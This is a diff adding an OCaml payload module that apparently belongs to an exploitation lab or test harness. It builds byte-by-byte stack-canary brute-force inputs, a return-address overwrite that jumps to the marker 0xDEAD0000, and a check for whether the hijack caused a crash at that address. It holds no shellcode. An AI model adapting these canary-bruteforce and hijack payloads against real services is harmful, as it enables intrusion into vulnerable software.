@@ -1,0 +1,48 @@
+type layout = { overflow_distance : int; canary_len : int }
+
+let magic_ret = 0xDEAD0000L
+
+let filler n = Bytes.make n 'A'
+
+let guess_prefix layout ~known ~guess =
+  let k = Bytes.length known in
+  if k >= layout.canary_len then
+    invalid_arg "Payload.guess_prefix: canary already fully known";
+  let b = Bytes.create (layout.overflow_distance + k + 1) in
+  Bytes.fill b 0 layout.overflow_distance 'A';
+  Bytes.blit known 0 b layout.overflow_distance k;
+  Bytes.set b (layout.overflow_distance + k) (Char.chr (guess land 0xFF));
+  b
+
+let hijack layout ~canary =
+  if Bytes.length canary <> layout.canary_len then
+    invalid_arg "Payload.hijack: canary length mismatch";
+  (* [filler][canary][saved rbp][return address] *)
+  let b = Bytes.create (layout.overflow_distance + layout.canary_len + 16) in
+  Bytes.fill b 0 layout.overflow_distance 'A';
+  Bytes.blit canary 0 b layout.overflow_distance layout.canary_len;
+  let off = layout.overflow_distance + layout.canary_len in
+  Bytes.set_int64_le b off 0L (* saved rbp: junk; never dereferenced before ret *);
+  Bytes.set_int64_le b (off + 8) magic_ret;
+  b
+
+let stealth_corruption layout ~canary =
+  if Bytes.length canary <> layout.canary_len then
+    invalid_arg "Payload.stealth_corruption: canary length mismatch";
+  let b = Bytes.create (layout.overflow_distance + layout.canary_len + 8) in
+  Bytes.fill b 0 layout.overflow_distance 'A';
+  Bytes.blit canary 0 b layout.overflow_distance layout.canary_len;
+  Bytes.set_int64_le b (layout.overflow_distance + layout.canary_len)
+    0x4242424242424242L;
+  b
+
+let hijacked = function
+  | Oracle.Crashed (Os.Process.Sigsegv, msg) ->
+    let needle = Printf.sprintf "0x%Lx" magic_ret in
+    let rec contains i =
+      if i + String.length needle > String.length msg then false
+      else if String.sub msg i (String.length needle) = needle then true
+      else contains (i + 1)
+    in
+    contains 0
+  | Oracle.Survived _ | Oracle.Crashed _ | Oracle.Server_down _ -> false
